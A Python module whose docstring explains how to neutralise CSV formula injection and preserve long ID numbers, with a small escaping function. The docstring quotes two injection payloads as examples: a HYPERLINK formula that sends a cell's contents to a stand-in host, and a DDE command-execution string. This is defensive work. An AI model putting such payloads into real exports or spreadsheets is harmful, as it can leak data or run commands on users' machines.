"""What a CSV cell holds so that a spreadsheet shows it as written: no formulas, no lost digits.

A CSV file has no cell types: Excel, WPS and LibreOffice guess each cell's kind as they open it,
and two of their guesses hurt a line list.

**Formulas.** A text that begins with `=`, `+`, `-` or `@` is read as a formula by Excel and WPS
(LibreOffice 7.4 evaluates those with `=`: measured), so a name typed as
`=HYPERLINK("http://x/?"&C2,"点击")` or `=cmd|' /C calc'!A0` runs on the reader's machine
(OWASP "CSV Injection", CWE-1236). A tab, CR or LF in front, or spaces in front, hide the sign
only until something strips them: LibreOffice's "Trim spaces" import option turns ` =1+1` into
a live formula (measured). Such a cell is written behind **a leading apostrophe**, OWASP's and
ASVS 1.2.10's neutralisation: a cell that begins with `'` is no formula to any of the three, and
LibreOffice 7.4 imports `'=1+1` as the text `'=1+1` under every import option (measured with
evaluate formulas, detect special numbers and trim spaces all on). The apostrophe stays
visible, which is the point: the reader sees that the cell was not what it looked like, and the
rest of it is exactly what was typed. Rejected: double quotes around the cell (spreadsheets
drop them before they guess: LibreOffice evaluates a quoted `"=HYPERLINK(…)"`, measured), a
leading tab (on OWASP's own list, since a spreadsheet may strip it) and `="…"` (a formula
itself). The full-width signs `＝＋－＠` get the apostrophe too: an input method types them, and
they cost nothing. Numbers stay numbers: only text cells are looked at, so the number -5 is a
number in the file (the text "-5" is written `'-5`).

**Long digit strings.** An 18-digit resident ID opened as a number becomes 4.20102E+17 and loses
its last three digits for good; an 11-digit phone and a door "0301" lose their look or their
leading zero. Which columns hold such codes is said by the export's column definitions (a line
list's `ListColumn`, a shown list's column keys), never guessed from the digits. Their cells are
written behind **a leading tab**: LibreOffice 7.4 imports `\t420102198001011234` as text under
every import option above, "Trim spaces" included (measured); Excel and WPS keep it text too,
the convention Chinese systems use for ID numbers in CSV (not measured here: no Excel or WPS on
a Linux build machine). The tab is invisible on screen and on paper, where an apostrophe would
show in every ID; `="420102198001011234"` is a formula, which the first rule exists never to
write. A code that itself begins with a sign gets the apostrophe instead. The .xlsx export needs
none of this: its cells are typed (inline strings), which is why .xlsx is the default.
"""
from __future__ import annotations

# A cell's first character that makes a spreadsheet read a formula (ASCII and full width).
FORMULA_SIGNS = frozenset("=+-@＝＋－＠")
# First characters OWASP lists because a spreadsheet may strip them and find a sign behind.
HIDING = frozenset("\t\r\n")
NEUTRALISED = "'"      # in front of a text that would be read as a formula
KEPT_AS_TEXT = "\t"    # in front of a code that would be read as a number


def looks_like_a_formula(text: str) -> bool:
    """Whether a spreadsheet opening `text` as a CSV cell might run it: a sign first, or a tab,
    CR or LF first, or spaces before a sign."""
    if not text:
        return False
    first = text[0]
    if first in FORMULA_SIGNS or first in HIDING:
        return True
    return first.isspace() and text.lstrip()[:1] in FORMULA_SIGNS


def csv_text(text: str, code: bool = False) -> str:
    """`text` as a CSV cell holds it: behind an apostrophe when it might be read as a formula,
    behind a tab when it is a `code` (an ID, a phone, a door) a spreadsheet must keep as text."""
    if looks_like_a_formula(text):
        return NEUTRALISED + text
    if code and text:
        return KEPT_AS_TEXT + text
    return text
